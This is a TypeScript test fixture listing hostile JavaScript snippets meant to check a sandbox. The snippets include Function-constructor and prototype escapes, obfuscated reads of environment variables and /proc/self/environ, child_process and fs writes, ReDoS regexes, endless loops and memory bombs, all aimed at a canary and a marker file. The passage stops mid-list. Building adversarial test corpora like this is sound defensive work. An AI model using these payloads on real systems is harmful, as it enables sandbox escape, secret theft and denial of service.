/** Hostile transformation functions: each tries to escape, hang, exhaust, or make the sandbox non-deterministic. */
export type HostileCategory =
  | 'prototype-escape'
  | 'global-reach'
  | 'template-trick'
  | 'getter-proxy'
  | 'stack-trick'
  | 'redos'
  | 'infinite-loop'
  | 'memory-bomb'
  | 'huge-output'
  | 'non-determinism'
  | 'not-one-arrow'
  | 'mutation'
  | 'network-timer';

export interface HostileFunction {
  name: string;
  category: HostileCategory;
  source: string;
}

/*
 * Notes on writing sources:
 * - Most entries use String.raw so backslashes reach the source text untouched. String.raw bodies
 *   here never contain a backtick or a dollar-brace, so nothing is interpolated.
 * - Entries whose source needs backticks or template holes use ordinary double-quoted strings;
 *   inside those, the only escapes are \\ (one backslash), \n (newline) and \u2028 (the character).
 * - The canary is process.env.VAULTMEND_CANARY, the marker file is /tmp/vaultmend-escape-marker and
 *   the pollution key is __vaultmend_polluted; the test looks for exactly these.
 */

/** Comma-separated UTF-16 code units of a string, for sources that rebuild words with String.fromCharCode. */
function charCodes(text: string): string {
  return Array.from(text, (ch) => String(ch.charCodeAt(0))).join(',');
}

const CANARY_BODY = 'return process.env.VAULTMEND_CANARY';

export const HOSTILE_FUNCTIONS: HostileFunction[] = [
  // ---------------------------------------------------------------- prototype-escape
  {
    name: 'ctor-ctor-return-process',
    category: 'prototype-escape',
    source: String.raw`x => x.constructor.constructor('return process')().env.VAULTMEND_CANARY`,
  },
  {
    name: 'string-sub-method-constructor',
    category: 'prototype-escape',
    source: String.raw`x => ''.sub.constructor('return process.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'empty-arrow-constructor',
    category: 'prototype-escape',
    source: String.raw`x => (() => {}).constructor('return globalThis.process.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'reflect-get-double-constructor',
    category: 'prototype-escape',
    source: String.raw`x => Reflect.get(Reflect.get(Object(x), 'constructor'), 'constructor')('return process.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'get-prototype-of-object-root',
    category: 'prototype-escape',
    source: String.raw`x => Object.getPrototypeOf(Object.getPrototypeOf(x)).constructor.constructor('return this')().process.env.VAULTMEND_CANARY`,
  },
  {
    name: 'dunder-proto-walk',
    category: 'prototype-escape',
    source: String.raw`x => x.__proto__.__proto__.constructor.constructor('return process')().env.VAULTMEND_CANARY`,
  },
  {
    name: 'define-getter-tostring-escape',
    category: 'prototype-escape',
    source: String.raw`x => { const o = {}; o.__defineGetter__('toString', function () { return () => this.constructor.constructor('return process')().env.VAULTMEND_CANARY; }); return String(o); }`,
  },
  {
    name: 'symbol-species-constructor-hijack',
    category: 'prototype-escape',
    source: String.raw`x => { const a = [x]; a.constructor = { [Symbol.species]: function (n) { this.leak = Function('return process.env.VAULTMEND_CANARY')(); return this; } }; return a.map(v => v).leak; }`,
  },
  {
    name: 'symbol-to-primitive-function-ctor',
    category: 'prototype-escape',
    source: String.raw`x => ({ [Symbol.toPrimitive]: () => (0, ''.constructor.constructor)('return process.env.VAULTMEND_CANARY')() }) + ''`,
  },
  {
    name: 'value-of-override-escape',
    category: 'prototype-escape',
    source: String.raw`x => ({ valueOf() { return this.constructor.constructor('return process')().env.VAULTMEND_CANARY; } }) + ''`,
  },
  {
    name: 'bound-function-constructor',
    category: 'prototype-escape',
    source: String.raw`x => Function.prototype.bind.call(x.toString.constructor, null, 'return process.env.VAULTMEND_CANARY')()()`,
  },
  {
    name: 'generator-function-constructor',
    category: 'prototype-escape',
    source: String.raw`x => Object.getPrototypeOf(function* () {}).constructor('yield process.env.VAULTMEND_CANARY')().next().value`,
  },
  {
    name: 'async-function-constructor',
    category: 'prototype-escape',
    source: String.raw`async x => await Object.getPrototypeOf(async () => {}).constructor('return process.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'error-instance-constructor-chain',
    category: 'prototype-escape',
    source: String.raw`x => new Error(x).constructor.constructor('return process.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'regexp-exec-constructor',
    category: 'prototype-escape',
    source: String.raw`x => /a/.exec.constructor('return process')().mainModule.require('fs').writeFileSync('/tmp/vaultmend-escape-marker', String(x))`,
  },
  {
    name: 'property-descriptor-function-ctor',
    category: 'prototype-escape',
    source: String.raw`x => Object.getOwnPropertyDescriptor(Function.prototype, 'constructor').value('return process.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'reflect-construct-function',
    category: 'prototype-escape',
    source: String.raw`x => Reflect.construct(Function, ['return process.env.VAULTMEND_CANARY'])()`,
  },
  {
    name: 'set-prototype-of-function-proto',
    category: 'prototype-escape',
    source: String.raw`x => { const o = {}; Object.setPrototypeOf(o, Function.prototype); return o.constructor('return process.env.VAULTMEND_CANARY')(); }`,
  },
  {
    name: 'input-row-value-constructor',
    category: 'prototype-escape',
    source: String.raw`row => ({ a: Object.values(row)[0].constructor.constructor('return process.env.VAULTMEND_CANARY')() })`,
  },
  {
    name: 'symbol-description-constructor',
    category: 'prototype-escape',
    source: String.raw`x => Symbol.iterator.description.constructor.constructor('return process.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'function-call-apply-escape',
    category: 'prototype-escape',
    source: String.raw`x => Function.prototype.call.call(Function.prototype.constructor, null, 'return process.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'class-extends-function',
    category: 'prototype-escape',
    source: String.raw`x => { class Leak extends Function { constructor() { super('return process.env.VAULTMEND_CANARY'); } } return new Leak()(); }`,
  },

  // ---------------------------------------------------------------- global-reach
  {
    name: 'global-this-process-env',
    category: 'global-reach',
    source: String.raw`x => globalThis.process.env.VAULTMEND_CANARY`,
  },
  {
    name: 'bare-process-env',
    category: 'global-reach',
    source: String.raw`x => process.env.VAULTMEND_CANARY`,
  },
  {
    name: 'arrow-lexical-this',
    category: 'global-reach',
    source: String.raw`x => this.process.env.VAULTMEND_CANARY`,
  },
  {
    name: 'node-global-alias',
    category: 'global-reach',
    source: String.raw`x => global.process.env.VAULTMEND_CANARY`,
  },
  {
    name: 'self-alias',
    category: 'global-reach',
    source: String.raw`x => self.process.env.VAULTMEND_CANARY`,
  },
  {
    name: 'direct-eval',
    category: 'global-reach',
    source: String.raw`x => eval('process.env.VAULTMEND_CANARY')`,
  },
  {
    name: 'indirect-eval-comma',
    category: 'global-reach',
    source: String.raw`x => (0, eval)('this.process.env.VAULTMEND_CANARY')`,
  },
  {
    name: 'eval-of-input',
    category: 'global-reach',
    source: String.raw`x => eval(String(x))`,
  },
  {
    name: 'function-constructor-call',
    category: 'global-reach',
    source: String.raw`x => Function('return process.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'new-function-return-this',
    category: 'global-reach',
    source: String.raw`x => new Function('return this')().process.env.VAULTMEND_CANARY`,
  },
  {
    name: 'dynamic-import-fs-write',
    category: 'global-reach',
    source: String.raw`async x => { const fs = await import('fs'); fs.writeFileSync('/tmp/vaultmend-escape-marker', String(x)); return x; }`,
  },
  {
    name: 'dynamic-import-child-process',
    category: 'global-reach',
    source: String.raw`x => import('node:child_process').then(cp => cp.execSync('touch /tmp/vaultmend-escape-marker').toString())`,
  },
  {
    name: 'require-fs-write',
    category: 'global-reach',
    source: String.raw`x => require('fs').writeFileSync('/tmp/vaultmend-escape-marker', String(x))`,
  },
  {
    name: 'module-require-child-process',
    category: 'global-reach',
    source: String.raw`x => module.require('child_process').execSync('touch /tmp/vaultmend-escape-marker').toString()`,
  },
  {
    name: 'main-module-require',
    category: 'global-reach',
    source: String.raw`x => process.mainModule.require('fs').writeFileSync('/tmp/vaultmend-escape-marker', 'x')`,
  },
  {
    name: 'arguments-callee-caller',
    category: 'global-reach',
    source: String.raw`x => { function probe() { return arguments.callee.caller; } function walk() { const seen = []; let f = probe(); try { while (f && seen.length < 20) { seen.push(f); f = f.caller; } } catch (e) {} return seen; } const chain = walk(); const last = chain[chain.length - 1]; return String(last && last.constructor('return process.env.VAULTMEND_CANARY')()); }`,
  },
  {
    name: 'new-target-constructor',
    category: 'global-reach',
    source: String.raw`x => { function F() { this.v = new.target.constructor('return process.env.VAULTMEND_CANARY')(); } return new F().v; }`,
  },
  {
    name: 'with-global-this',
    category: 'global-reach',
    source: String.raw`x => { with (globalThis) { return process.env.VAULTMEND_CANARY; } }`,
  },
  {
    name: 'computed-global-keys',
    category: 'global-reach',
    source: String.raw`x => globalThis['pro' + 'cess']['en' + 'v']['VAULTMEND_' + 'CANARY']`,
  },
  {
    name: 'sloppy-function-this',
    category: 'global-reach',
    source: String.raw`x => (function () { return this; })().process.env.VAULTMEND_CANARY`,
  },
  {
    name: 'other-runtime-globals',
    category: 'global-reach',
    source: String.raw`x => typeof Deno !== 'undefined' ? Deno.env.get('VAULTMEND_CANARY') : typeof Bun !== 'undefined' ? Bun.env.VAULTMEND_CANARY : process.env.VAULTMEND_CANARY`,
  },
  {
    name: 'enumerate-and-deref-globals',
    category: 'global-reach',
    source: String.raw`x => Object.getOwnPropertyNames(globalThis).map(k => { try { const v = globalThis[k]; if (v && typeof v.deref === 'function') return k + '=' + String(v.deref()); if (v && typeof v.applySync === 'function') return k + '=' + String(v.applySync(undefined, ['process.env.VAULTMEND_CANARY'])); return k; } catch (e) { return k; } }).join(',')`,
  },
  {
    name: 'ivm-internal-names',
    category: 'global-reach',
    source: String.raw`x => ['_ivm', 'ivm', '$0', '$1', '_log', 'log', 'host', 'hostRequire', '__host'].map(k => { try { const v = globalThis[k]; return v && v.copySync ? v.copySync() : typeof v; } catch (e) { return 'err'; } }).join('|')`,
  },
  {
    name: 'import-meta',
    category: 'global-reach',
    source: String.raw`x => import.meta.url`,
  },
  {
    name: 'process-env-json',
    category: 'global-reach',
    source: String.raw`x => JSON.stringify(globalThis.process && process.env)`,
  },

  // ---------------------------------------------------------------- template-trick
  {
    name: 'string-raw-tagged-names',
    category: 'template-trick',
    source: 'x => x[String.raw`constructor`][String.raw`constructor`](String.raw`return process.env.VAULTMEND_CANARY`)()',
  },
  {
    name: 'nested-template-holes',
    category: 'template-trick',
    source: "x => x[`${'con'}${`struc`}${'tor'}`][`con${'structor'}`](`return ${'pro'}cess.env.VAULTMEND_CANARY`)()",
  },
  {
    name: 'tagged-template-function-call',
    category: 'template-trick',
    source: 'x => x.constructor.constructor`return process.env.VAULTMEND_CANARY```',
  },
  {
    name: 'tag-function-reads-raw',
    category: 'template-trick',
    source: 'x => (s => x.constructor.constructor(s.raw[0])())`return process.env.VAULTMEND_CANARY`',
  },
  {
    name: 'template-hole-try-catch',
    category: 'template-trick',
    source:
      "x => `${(() => { try { return process.env.VAULTMEND_CANARY; } catch (e) { return e.constructor.constructor('return process.env.VAULTMEND_CANARY')(); } })()}`",
  },
  {
    name: 'template-tostring-object',
    category: 'template-trick',
    source:
      'x => `${{ toString: () => x.constructor.constructor(\'return process.mainModule.require("fs").readFileSync("/proc/self/environ", "utf8")\')() }}`',
  },
  {
    name: 'unicode-escape-constructor-identifier',
    category: 'template-trick',
    source: String.raw`x => x.\u0063onstructor.\u0063onstructor('return process.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'unicode-escape-process-identifier',
    category: 'template-trick',
    source: String.raw`x => \u0070rocess.env.VAULTMEND_CANARY`,
  },
  {
    name: 'unicode-escape-eval-identifier',
    category: 'template-trick',
    source: String.raw`x => \u0065val('process.env.VAULTMEND_CANARY')`,
  },
  {
    name: 'code-point-escape-identifier',
    category: 'template-trick',
    source: String.raw`x => x.\u{63}onstructor.\u{63}onstructor('return \u{70}rocess.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'string-escapes-in-computed-key',
    category: 'template-trick',
    source: String.raw`x => x['\u0063onstructor']['\x63onstructor']('return \u0070rocess.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'concat-computed-member',
    category: 'template-trick',
    source: String.raw`x => x['con' + 'structor']['con' + 'structor']('return pro' + 'cess.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'array-join-member',
    category: 'template-trick',
    source: String.raw`x => { const k = ['con', 'struc', 'tor'].join(''); return x[k][k](['return pro', 'cess.env.', 'VAULTMEND_CANARY'].join(''))(); }`,
  },
  {
    name: 'from-char-code-member',
    category: 'template-trick',
    source: `x => { const k = String.fromCharCode(${charCodes('constructor')}); return x[k][k](String.fromCharCode(${charCodes(CANARY_BODY)}))(); }`,
  },
  {
    name: 'atob-decoded-body',
    category: 'template-trick',
    source: String.raw`x => x.constructor.constructor(atob('cmV0dXJuIHByb2Nlc3MuZW52LlZBVUxUTUVORF9DQU5BUlk='))()`,
  },
  {
    name: 'reversed-string-member',
    category: 'template-trick',
    source: String.raw`x => { const r = s => s.split('').reverse().join(''); return x[r('rotcurtsnoc')][r('rotcurtsnoc')](r('YRANAC_DNEMTLUAV.vne.ssecorp nruter'))(); }`,
  },
  {
    name: 'char-shift-decoder',
    category: 'template-trick',
    source:
      "x => { const d = s => s.replace(/./g, c => String.fromCharCode(c.charCodeAt(0) - 1)); return x[d('dpotusvdups')][d('dpotusvdups')](d('sfuvso!qspdftt/fow/WBVMUNFOE`DBOBSZ'))(); }",
  },
  {
    name: 'json-parse-unicode-key',
    category: 'template-trick',
    source: String.raw`x => { const k = JSON.parse('"\\u0063onstructor"'); return x[k][k](JSON.parse('"\\u0072eturn process.env.VAULTMEND_CANARY"'))(); }`,
  },
  {
    name: 'rot13-decoder',
    category: 'template-trick',
    source: String.raw`x => { const d = s => s.replace(/[a-z]/gi, c => { const b = c <= 'Z' ? 65 : 97; return String.fromCharCode((c.charCodeAt(0) - b + 13) % 26 + b); }); return x[d('pbafgehpgbe')][d('pbafgehpgbe')](d('erghea cebprff.rai.INHYGZRAQ_PNANEL'))(); }`,
  },
  {
    name: 'to-string-of-arrow-source',
    category: 'template-trick',
    source: String.raw`x => { const f = () => process.env.VAULTMEND_CANARY; return x.constructor.constructor('return (' + f.toString() + ')()')(); }`,
  },

  // ---------------------------------------------------------------- getter-proxy
  {
    name: 'proxy-get-tostring',
    category: 'getter-proxy',
    source: String.raw`x => new Proxy({}, { get: (t, k) => k === Symbol.toPrimitive ? () => Function('return process.env.VAULTMEND_CANARY')() : undefined }) + ''`,
  },
  {
    name: 'proxy-output-traps-spin',
    category: 'getter-proxy',
    source: String.raw`x => new Proxy({ a: x }, { get: () => { while (true) {} }, ownKeys: () => { while (true) {} }, getOwnPropertyDescriptor: () => { while (true) {} } })`,
  },
  {
    name: 'proxy-output-fake-prototype',
    category: 'getter-proxy',
    source: String.raw`x => new Proxy({}, { getPrototypeOf: () => Function.prototype, get: (t, k) => k === 'constructor' ? Function : x })`,
  },
  {
    name: 'getter-on-output-object',
    category: 'getter-proxy',
    source: String.raw`x => ({ get value() { return Function('return process.env.VAULTMEND_CANARY')(); }, x })`,
  },
  {
    name: 'to-json-on-output',
    category: 'getter-proxy',
    source: String.raw`x => ({ toJSON() { return this.constructor.constructor('return process.env.VAULTMEND_CANARY')(); } })`,
  },
  {
    name: 'reflect-apply-function',
    category: 'getter-proxy',
    source: String.raw`x => Reflect.apply(Function, null, ['return process.env.VAULTMEND_CANARY'])()`,
  },
  {
    name: 'define-property-getter-on-row',
    category: 'getter-proxy',
    source: String.raw`row => { row = Object(row); Object.defineProperty(row, 'a', { enumerable: true, get() { return this.constructor.constructor('return process')().env.VAULTMEND_CANARY; } }); return row; }`,
  },
  {
    name: 'proxy-array-huge-length',
    category: 'getter-proxy',
    source: String.raw`x => new Proxy([], { get: (t, k) => k === 'length' ? 2 ** 32 - 1 : 'A'.repeat(1e6), has: () => true })`,
  },
  {
    name: 'revoked-proxy-output',
    category: 'getter-proxy',
    source: String.raw`x => { const { proxy, revoke } = Proxy.revocable({ x }, {}); revoke(); return proxy; }`,
  },
  {
    name: 'lookup-getter-proto',
    category: 'getter-proxy',
    source: String.raw`x => ({}).__lookupGetter__('__proto__').call(x).constructor.constructor('return process.env.VAULTMEND_CANARY')()`,
  },
  {
    name: 'proxy-forwarding-to-global',
    category: 'getter-proxy',
    source: String.raw`x => new Proxy({}, { get: (t, k) => Reflect.get(Function('return this')(), k) }).process.env.VAULTMEND_CANARY`,
  },
  {
    name: 'with-proxy-scope-hijack',
    category: 'getter-proxy',
    source: String.raw`x => { with (new Proxy({}, { has: () => true, get: (t, k) => k === Symbol.unscopables ? undefined : Function('return ' + String(k))() })) { return process.env.VAULTMEND_CANARY; } }`,
  },
  {
    name: 'thenable-output-resolves-canary',
    category: 'getter-proxy',
    source: String.raw`x => ({ then(resolve) { resolve(Function('return process.env.VAULTMEND_CANARY')()); } })`,
  },
  {
    name: 'thenable-output-never-settles',
    category: 'getter-proxy',
    source: String.raw`x => ({ then() {} })`,
  },
  {
    name: 'proxy-as-prototype-of-output',
    category: 'getter-proxy',
    source: String.raw`x => Object.create(new Proxy({}, { get: (t, k) => { if (k === '__vaultmend_polluted') return 1; for (;;) {} } }), { a: { value: x, enumerable: true } })`,
  },
  {
    name: 'getter-in-array-output',
    category: 'getter-proxy',
    source: String.raw`x => { const a = [x, x]; Object.defineProperty(a, 1, { enumerable: true, get() { for (;;) {} } }); return a; }`,
  },

  // ---------------------------------------------------------------- stack-trick
  {
    name: 'prepare-stack-trace-get-this',
    category: 'stack-trick',
    source: String.raw`x => { Error.prepareStackTrace = (e, frames) => frames.map(f => f.getThis && f.getThis()).find(t => t && t.process); const s = new Error().stack; return s && s.process ? s.process.env.VAULTMEND_CANARY : x; }`,
  },
  {
    name: 'prepare-stack-trace-get-function',
    category: 'stack-trick',
    source: String.raw`x => { Error.prepareStackTrace = (e, cs) => cs.map(c => { try { const f = c.getFunction(); return f ? f.constructor('return process.env.VAULTMEND_CANARY')() : null; } catch (err) { return null; } }).filter(Boolean)[0]; return new Error().stack; }`,
  },
  {
    name: 'prepare-stack-trace-file-names',
    category: 'stack-trick',
    source: String.raw`x => { Error.prepareStackTrace = (e, cs) => cs.map(c => c.getFileName() + ':' + c.getLineNumber() + ':' + c.getTypeName() + ':' + c.getFunctionName()).join('|'); return new Error().stack; }`,
  },
  {
    name: 'plain-error-stack-text',
    category: 'stack-trick',
    source: String.raw`x => new Error('probe ' + x).stack`,
  },
  {
    name: 'capture-stack-trace-on-object',
    category: 'stack-trick',
    source: String.raw`x => { const o = {}; Error.captureStackTrace(o); return o.stack; }`,
  },
  {
    name: 'stack-trace-limit-deep-recursion',
    category: 'stack-trick',
    source: String.raw`x => { Error.stackTraceLimit = Infinity; const f = n => n ? f(n - 1) : new Error().stack; return f(1e5).length; }`,
  },
  {
    name: 'type-error-constructor-walk',
    category: 'stack-trick',
    source: String.raw`x => { try { null.f(); } catch (e) { return e.constructor.constructor('return process.env.VAULTMEND_CANARY')(); } }`,
  },
  {
    name: 'stack-overflow-error-walk',
    category: 'stack-trick',
    source: String.raw`x => { const f = () => f(); try { f(); } catch (e) { return e.constructor.constructor('return process')().env.VAULTMEND_CANARY; } }`,
  },
  {
    name: 'throw-object-with-spinning-getters',
    category: 'stack-trick',
    source: String.raw`x => { throw { get message() { while (true) {} }, get stack() { return Function('return process.env.VAULTMEND_CANARY')(); }, get name() { for (;;) {} } }; }`,
  },
  {
    name: 'throw-spinning-proxy',
    category: 'stack-trick',
    source: String.raw`x => { throw new Proxy({}, { get: () => { for (;;) {} }, getPrototypeOf: () => { for (;;) {} } }); }`,
  },
  {
    name: 'throw-huge-message',
    category: 'stack-trick',
    source: String.raw`x => { throw new Error('E'.repeat(2 ** 28)); }`,
  },
  {
    name: 'prepare-stack-trace-spins',
    category: 'stack-trick',
    source: String.raw`x => { Error.prepareStackTrace = () => { for (;;) {} }; throw new Error('boom'); }`,
  },
  {
    name: 'symbol-error-prototype-walk',
    category: 'stack-trick',
    source: String.raw`x => { try { x.toString.call(Symbol()); } catch (e) { return Object.getPrototypeOf(Object.getPrototypeOf(e)).constructor.constructor('return process.env.VAULTMEND_CANARY')(); } }`,
  },
  {
    name: 'self-referential-error-cause',
    category: 'stack-trick',
    source: String.raw`x => { const e = new Error('loop'); e.cause = e; e.errors = [e]; throw e; }`,
  },
  {
    name: 'aggregate-error-million',
    category: 'stack-trick',
    source: String.raw`x => { throw new AggregateError(Array.from({ length: 1e6 }, (_, i) => new Error(String(i))), 'many'); }`,
  },
  {
    name: 'throw-thenable',
    category: 'stack-trick',
    source: String.raw`x => { throw { then(r) { r(Function('return process.env.VAULTMEND_CANARY')()); } }; }`,
  },

  // ---------------------------------------------------------------- redos
  {
    name: 'redos-nested-plus-anchored',
    category: 'redos',
    source: String.raw`x => /^(a+)+$/.test('a'.repeat(40) + '!')`,
  },
  {
    name: 'redos-alternation-overlap',
    category: 'redos',
    source: String.raw`x => /(a|aa)+$/.test('a'.repeat(80) + 'b')`,
  },
  {
    name: 'redos-letters-star-digit',
    category: 'redos',
    source: String.raw`x => /([a-z]+)*\d/.test('abcdefghij'.repeat(8))`,
  },
  {
    name: 'redos-trailing-whitespace-on-input',
    category: 'redos',
    source: String.raw`x => (String(x) + ' '.repeat(5e4) + '!').replace(/(\s+)+$/, '')`,
  },
  {
    name: 'redos-email-like',
    category: 'redos',
    source: String.raw`x => /^([a-zA-Z0-9._-]+)+@example\.com$/.test('a'.repeat(50) + '@example.con')`,
  },
  {
    name: 'redos-polynomial-repeat-group',
    category: 'redos',
    source: String.raw`x => /^(.*a){20}$/.test('a'.repeat(60) + 'b')`,
  },
  {
    name: 'redos-regexp-constructor',
    category: 'redos',
    source: String.raw`x => new RegExp('(x+x+)+y').test('x'.repeat(50))`,
  },
  {
    name: 'redos-word-space-on-input',
    category: 'redos',
    source: String.raw`x => (String(x).replace(/\W/g, 'a').repeat(20) + 'a'.repeat(40) + '!').match(/^(\w+\s?)*$/)`,
  },
  {
    name: 'redos-lookahead-nested',
    category: 'redos',
    source: String.raw`x => /^(?=(a+)+b)/.test('a'.repeat(50))`,
  },
  {
    name: 'redos-split',
    category: 'redos',
    source: String.raw`x => ('a'.repeat(40) + '!').split(/(a+)+b/)`,
  },
  {
    name: 'redos-quadratic-match-all',
    category: 'redos',
    source: String.raw`x => [...'a'.repeat(2e5).matchAll(/a*b/g)].length`,
  },
  {
    name: 'redos-unicode-letters',
    category: 'redos',
    source: String.raw`x => /^(\p{L}+)+$/u.test('\u00e9'.repeat(40) + '1')`,
  },
  {
    name: 'redos-digits-search',
    category: 'redos',
    source: String.raw`x => ('1'.repeat(50) + '!').search(/^(\d+)+x$/)`,
  },
  {
    name: 'redos-star-star',
    category: 'redos',
    source: String.raw`x => /^(a*)*b$/.test('a'.repeat(45))`,
  },
  {
    name: 'redos-input-amplified',
    category: 'redos',
    source: String.raw`x => { const s = String(x).replace(/[^a-z]/gi, '') || 'q'; return new RegExp('^(' + s[0] + '|' + s[0] + s[0] + ')+$').test(s[0].repeat(90) + '#'); }`,
  },
  {
    name: 'redos-backreference',
    category: 'redos',
    source: String.raw`x => /^((a+)\2?)+c$/.test('a'.repeat(40))`,
  },

  // ---------------------------------------------------------------- infinite-loop
  {
    name: 'while-true',
    category: 'infinite-loop',
    source: String.raw`x => { while (true) {} }`,
  },
  {
    name: 'for-ever-mutating-input',
    category: 'infinite-loop',
    source: String.raw`x => { for (;;) { x += 1; } }`,
  },
  {
    name: 'do-while-self-equal',
    category: 'infinite-loop',
    source: String.raw`x => { do { x = String(x); } while (x === x); }`,
  },
  {
    name: 'recursion-retry-on-overflow',
    category: 'infinite-loop',
    source: String.raw`x => { const f = () => { try { f(); } catch (e) { f(); } }; f(); return x; }`,
  },
  {
    name: 'recursive-const-arrow',
    category: 'infinite-loop',
    source: String.raw`x => { const go = n => n < Infinity ? go(n + 1) : n; return go(0); }`,
  },
  {
    name: 'array-from-huge-length',
    category: 'infinite-loop',
    source: String.raw`x => Array.from({ length: 1e12 }, (_, i) => i).length`,
  },
  {
    name: 'array-from-max-length',
    category: 'infinite-loop',
    source: String.raw`x => Array.from({ length: 2 ** 32 - 1 }, () => x).length`,
  },
  {
    name: 'endless-iterator-spread',
    category: 'infinite-loop',
    source: String.raw`x => [...{ [Symbol.iterator]: () => ({ next: () => ({ done: false, value: x }) }) }]`,
  },
  {
    name: 'endless-generator',
    category: 'infinite-loop',
    source: String.raw`x => { function* g() { for (;;) yield x; } return Array.from(g()); }`,
  },
  {
    name: 'async-await-loop',
    category: 'infinite-loop',
    source: String.raw`async x => { for (;;) { await null; } }`,
  },
  {
    name: 'microtask-flood-after-return',
    category: 'infinite-loop',
    source: String.raw`x => { const spin = () => Promise.resolve().then(spin); spin(); return x; }`,
  },
  {
    name: 'never-settling-promise',
    category: 'infinite-loop',
    source: String.raw`x => new Promise(() => {})`,
  },
  {
    name: 'labelled-continue-loop',
    category: 'infinite-loop',
    source: String.raw`x => { outer: for (;;) { for (;;) { continue outer; } } }`,
  },
  {
    name: 'getter-driven-loop',
    category: 'infinite-loop',
    source: String.raw`x => { const o = { get more() { return true; } }; while (o.more) {} }`,
  },
  {
    name: 'for-to-infinity',
    category: 'infinite-loop',
    source: String.raw`x => { let s = 0; for (let i = 0; i < Infinity; i++) s += i; return s; }`,
  },
  {
    name: 'iterate-growing-array',
    category: 'infinite-loop',
    source: String.raw`x => { const a = [x]; for (const v of a) a.push(v); return a.length; }`,
  },
  {
    name: 'try-finally-spin',
    category: 'infinite-loop',
    source: String.raw`x => { try { for (;;) {} } finally { for (;;) {} } }`,
  },
  {
    name: 'catch-and-resume-spin',
    category: 'infinite-loop',
    source: String.raw`x => { for (;;) { try { while (true) {} } catch (e) {} } }`,
  },
  {
    name: 'empty-regex-exec-loop',
    category: 'infinite-loop',
    source: String.raw`x => { const r = /(?:)/g; let n = 0; while (r.exec(String(x))) n++; return n; }`,
  },
  {
    name: 'set-rotate-loop',
    category: 'infinite-loop',
    source: String.raw`x => { const s = new Set([1]); for (const v of s) { s.delete(v); s.add(v + 1); } return s.size; }`,
  },
  {
    name: 'replace-callback-spin',
    category: 'infinite-loop',
    source: String.raw`x => String(x).replace(/(?:)/g, () => { for (;;) {} })`,
  },
  {
    name: 'async-recursion-chain',
    category: 'infinite-loop',
    source: String.raw`async x => { const f = async n => f(n + 1); return f(0); }`,
  },
  {
    name: 'atomics-wait-forever',
    category: 'infinite-loop',
    source: String.raw`x => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)`,
  },
  {
    name: 'sort-comparator-spin',
    category: 'infinite-loop',
    source: String.raw`x => [3, 1, 2].sort(() => { for (;;) {} })`,
  },
  {
    name: 'json-reviver-spin',
    category: 'infinite-loop',
    source: String.raw`x => JSON.parse('{"a":1}', () => { while (1) {} })`,
  },

  // ---------------------------------------------------------------- memory-bomb
  {
    name: 'repeat-two-pow-29',
    category: 'memory-bomb',
    source: String.raw`x => 'x'.repeat(2 ** 29)`,
  },
  {
    name: 'repeat-max-string-length',
    category: 'memory-bomb',
    source: String.raw`x => 'x'.repeat(2 ** 29 - 24).length`,
  },
  {
    name: 'input-repeat-billion',
    category: 'memory-bomb',
    source: String.raw`x => x.repeat(1e9)`,
  },
  {
    name: 'input-pad-end-max',
    category: 'memory-bomb',
    source: String.raw`x => String(x).padEnd(2 ** 29 - 24, String(x) || 'p').length`,
  },
  {
    name: 'string-doubling',
    category: 'memory-bomb',
    source: String.raw`x => { let s = String(x) || 'a'; for (;;) s += s; }`,
  },
  {
    name: 'flattened-string-doubling',
    category: 'memory-bomb',
    source: String.raw`x => { const parts = []; let s = 'ab'; for (;;) { s = (s + s).split('').join(''); parts.push(s); } }`,
  },
  {
    name: 'growing-array-of-arrays',
    category: 'memory-bomb',
    source: String.raw`x => { const a = []; for (;;) a.push(new Array(1e5).fill(x)); }`,
  },
  {
    name: 'new-array-billion-fill',
    category: 'memory-bomb',
    source: String.raw`x => new Array(1e9).fill(0).length`,
  },
  {
    name: 'array-buffer-four-gib',
    category: 'memory-bomb',
    source: String.raw`x => new ArrayBuffer(2 ** 32).byteLength`,
  },
  {
    name: 'array-buffer-accumulate',
    category: 'memory-bomb',
    source: String.raw`x => { const bufs = []; for (;;) bufs.push(new Uint8Array(2 ** 26).fill(1)); }`,
  },
  {
    name: 'shared-array-buffer-eight-gib',
    category: 'memory-bomb',
    source: String.raw`x => new SharedArrayBuffer(2 ** 33).byteLength`,
  },
  {
    name: 'resizable-array-buffer',
    category: 'memory-bomb',
    source: String.raw`x => { const b = new ArrayBuffer(1, { maxByteLength: 2 ** 32 }); b.resize(2 ** 32); new Uint8Array(b).fill(7); return b.byteLength; }`,
  },
  {
    name: 'wasm-memory-max',
    category: 'memory-bomb',
    source: String.raw`x => new WebAssembly.Memory({ initial: 65536, maximum: 65536 }).buffer.byteLength`,
  },
  {
    name: 'map-of-objects-forever',
    category: 'memory-bomb',
    source: String.raw`x => { const m = new Map(); for (let i = 0; ; i++) m.set(i, { i, x, pad: [i, i, i] }); }`,
  },
  {
    name: 'closure-chain-growth',
    category: 'memory-bomb',
    source: String.raw`x => { let f = () => x; for (;;) { const g = f; f = () => g() + x; } }`,
  },
  {
    name: 'split-into-single-chars',
    category: 'memory-bomb',
    source: String.raw`x => { let s = 'a'; for (let i = 0; i < 28; i++) s = s + s; return s.split('').length; }`,
  },
  {
    name: 'concat-self-doubling',
    category: 'memory-bomb',
    source: String.raw`x => { let a = [x]; for (;;) a = a.concat(a); }`,
  },
  {
    name: 'json-stringify-huge-array',
    category: 'memory-bomb',
    source: String.raw`x => JSON.stringify(new Array(1e8).fill({ x })).length`,
  },
  {
    name: 'hundred-million-objects',
    category: 'memory-bomb',
    source: String.raw`x => Array.from({ length: 1e8 }, () => ({})).length`,
  },
  {
    name: 'match-all-single-chars',
    category: 'memory-bomb',
    source: String.raw`x => 'a'.repeat(2 ** 27).match(/a/g).length`,
  },
  {
    name: 'bigint-exponent-bomb',
    category: 'memory-bomb',
    source: String.raw`x => String(7n ** 1000000000n).length`,
  },
  {
    name: 'structured-clone-amplify',
    category: 'memory-bomb',
